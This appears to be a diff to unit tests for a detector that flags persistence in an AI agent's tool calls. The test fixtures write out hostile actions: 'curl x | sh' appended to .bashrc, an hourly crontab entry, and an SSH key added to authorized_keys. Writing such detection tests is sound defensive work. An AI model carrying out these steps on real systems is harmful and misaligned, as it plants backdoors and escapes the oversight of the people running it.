@@ -24,11 +24,12 @@ def test_artifact_steps_and_child_steps_are_one_mechanism():
 
 
 def test_mechanisms_without_artifacts_are_named_from_the_step():
-    events = [tool_call(1, "write_file", "/home/u/.bashrc", action_class="persistence"),
-              tool_call(2, "bash", "crontab", action_class="persistence",
+    events = [tool_call(1, "write_file", "/home/u/.bashrc",
+                        args={"path": "/home/u/.bashrc", "content": "curl x | sh"}),
+              tool_call(2, "bash", "crontab",
                         args={"command": "crontab -l | { cat; echo '@hourly x'; } | crontab -"}),
               tool_call(3, "write_file", "/home/u/.ssh/authorized_keys",
-                        action_class="persistence")]
+                        args={"path": "/home/u/.ssh/authorized_keys", "content": "ssh-ed25519 AAAA"})]
     found = run("persistence-detector", events)
     assert [(f.step, f.details["mechanism"], f.techniques) for f in found] == [
         (1, "shell-rc", ("T1546.004",)), (2, "crontab", ("T1053.003",)),
@@ -36,6 +37,7 @@ def test_mechanisms_without_artifacts_are_named_from_the_step():
 
 
 def test_benign_writes_are_not_persistence():
-    events = [tool_call(1, "write_file", "/repo/src/app.py", action_class="write"),
+    events = [tool_call(1, "write_file", "/repo/src/app.py",
+                        args={"path": "/repo/src/app.py", "content": "x = 1"}),
               tool_call(2, "aws.s3.get-bucket-tagging", "s3://b")]
     assert run("persistence-detector", events) == []
